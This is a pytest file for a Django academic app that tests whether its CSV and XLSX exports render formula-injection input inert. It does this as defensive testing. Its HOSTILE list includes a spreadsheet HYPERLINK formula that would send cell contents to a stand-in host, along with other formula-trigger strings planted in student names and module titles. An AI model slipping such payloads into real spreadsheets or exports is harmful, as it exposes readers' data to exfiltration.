"""Every export goes through core.spreadsheets: a name or title typed as a formula comes out
inert in each CSV (a leading apostrophe) and each XLSX (a string cell, its text intact)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import csv_bytes, inert, xlsx_bytes
from curriculum.models import Module
from enrollment.models import Application
from studies.models import Session
from tests.helpers import logged_in

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def csv_cells(content: bytes, delimiter: str = ";") -> list[list[str]]:
    """The cells of a CSV file; ";" by default, the separator of a French export."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_cells(content: bytes) -> list[tuple[object, ...]]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def assert_no_formula(content: bytes) -> None:
    """No cell of any sheet is a formula: not one <f> element in the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml
                assert b"<f " not in xml


# --- The writer ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [*HOSTILE, "\rcmd"])
def test_text_that_would_run_as_a_formula_gets_an_apostrophe_in_csv(text):
    [[cell]] = csv_cells(csv_bytes([[text]]))
    assert cell == "'" + text


def test_numbers_and_plain_text_are_left_as_they_are():
    assert inert(-3) == -3
    assert inert(Decimal("-1.5")) == Decimal("-1.5")
    assert inert("Amina Benali") == "Amina Benali"
    assert inert(None) == ""
    assert csv_cells(csv_bytes([[-3, Decimal("12.50"), "a-b"]])) == [["-3", "12,50", "a-b"]]
    assert csv_cells(csv_bytes([[-3, Decimal("12.50"), "a-b"]], sep="comma"), ",") == [
        ["-3", "12.50", "a-b"]
    ]


def test_xlsx_writes_formula_text_as_a_string_cell_with_its_text_and_numbers_as_numbers():
    content = xlsx_bytes([[*HOSTILE, Decimal("12.5"), 7]])
    assert_no_formula(content)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = next(iter(sheet.iter_rows()))
    assert [c.value for c in cells[: len(HOSTILE)]] == HOSTILE  # shown as typed
    assert {c.data_type for c in cells[: len(HOSTILE)]} == {"s"}
    assert cells[-2].value == 12.5
    assert cells[-1].value == 7
    assert cells[-1].data_type == "n"


# --- Every export -------------------------------------------------------------------------------
@pytest.fixture
def hostile_setting(setting):
    """The cohort of studies_helpers, whose first student typed a formula as a name."""
    student = setting["students"][0]
    student.user.first_name, student.user.last_name = HOSTILE[0], "+1+1"
    student.user.save(update_fields=["first_name", "last_name"])
    return setting


def test_the_mark_grid_export_is_inert(hostile_setting):
    from tests.studies.studies_helpers import sheet

    client = logged_in(hostile_setting["lecturer"])
    pk = sheet("F1.1.1").pk
    rows = csv_cells(client.get(reverse("studies:sheet_export", args=[pk, "csv"])).content)
    assert rows[1][1] == "'" + HOSTILE[0] + " +1+1"
    content = client.get(reverse("studies:sheet_export", args=[pk, "xlsx"])).content
    assert_no_formula(content)
    assert xlsx_cells(content)[1][1] == HOSTILE[0] + " +1+1"


def test_the_jury_export_is_inert(hostile_setting):
    cohort = hostile_setting["cohort"]
    client = logged_in(hostile_setting["coordinator"])
    url = reverse("studies:jury", args=[cohort.slug, 1, Session.NORMAL])
    response = client.get(url, {"format": "csv"})
    assert response["Content-Disposition"].endswith('.csv"')
    rows = csv_cells(response.content)
    assert rows[1][1] == "'" + HOSTILE[0] + " +1+1"
    content = client.get(url, {"format": "xlsx"}).content
    assert_no_formula(content)
    assert xlsx_cells(content)[1][1] == HOSTILE[0] + " +1+1"


def test_the_maquette_export_is_inert(hostile_setting):
    module = Module.objects.get(code="F1.1.1")
    module.title_fr = "+1+1"
    module.title_en = HOSTILE[0]
    module.save(update_fields=["title_fr", "title_en"])
    slug = module.programme.slug
    client = logged_in(hostile_setting["coordinator"])
    rows = csv_cells(client.get(reverse("curriculum:export", args=[slug, "csv"])).content)
    row = next(r for r in rows if r[5] == "F1.1.1")
    assert row[6:8] == ["'+1+1", "'" + HOSTILE[0]]
    content = client.get(reverse("curriculum:export", args=[slug, "xlsx"])).content
    assert_no_formula(content)
    cells = next(r for r in xlsx_cells(content) if r[5] == "F1.1.1")
    assert cells[6:8] == ("+1+1", HOSTILE[0])
    assert isinstance(cells[3], int | float)  # the unit's credits stay a number


def test_the_admissions_export_is_inert_and_the_csv_still_streams(make_user):
    from tests.enrollment.test_views import submitted
    from tests.factories.enrollment import IntakeFactory

    application = submitted(make_user, IntakeFactory.create())
    Application.objects.filter(pk=application.pk).update(full_name=HOSTILE[0])
    client = logged_in(make_user("coordinator"))
    url = reverse("enrollment:staff_applications")
    response = client.get(url, {"format": "csv"})
    assert response.streaming
    rows = csv_cells(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert rows[1][1] == "'" + HOSTILE[0]
    content = client.get(url, {"format": "xlsx"}).content
    assert_no_formula(content)
    assert xlsx_cells(content)[1][1] == HOSTILE[0]
